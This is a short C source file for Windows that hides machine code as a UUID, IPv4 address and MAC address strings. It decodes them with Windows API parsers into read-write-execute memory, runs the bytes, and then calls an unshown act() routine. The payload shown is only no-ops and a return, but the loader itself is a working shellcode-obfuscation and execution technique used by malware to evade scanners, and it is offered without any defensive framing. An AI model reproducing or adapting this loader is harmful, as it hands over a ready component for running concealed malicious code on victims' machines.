/* Machine code as identifiers, hosts and network cards; it is run, then the program acts. libs: -lrpcrt4 */
#include <windows.h>
#include <rpc.h>
#include "packed.h"
typedef LONG(NTAPI *Host)(PCSTR, BOOLEAN, PCSTR *, PVOID);
typedef LONG(NTAPI *Card)(PCSTR, PCSTR *, PVOID);
int main(void) {
    /* nop; nop; ... xor eax, eax; ret */
    static const char *identifiers[] = {"90909090-9090-9090-9090-909090909090"};
    static const char *hosts[] = {"144.144.144.144", "144.144.144.144"};
    static const char *cards[] = {"90-90-90-31-C0-C3"};
    unsigned char *place = VirtualAlloc(NULL, 4096, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE), *next = place;
    HMODULE native = GetModuleHandleA("ntdll.dll");
    Host host = (Host)GetProcAddress(native, "RtlIpv4StringToAddressA");
    Card card = (Card)GetProcAddress(native, "RtlEthernetStringToAddressA");
    PCSTR end;
    if (UuidFromStringA((RPC_CSTR)identifiers[0], (UUID *)next)) return 1;
    next += 16;
    for (int i = 0; i < 2; i++, next += 4) if (host(hosts[i], FALSE, &end, next) || *end) return 2;
    if (card(cards[0], &end, next) || *end) return 3;
    if (((int (*)(void))place)() == 0) act();
    return 0;
}
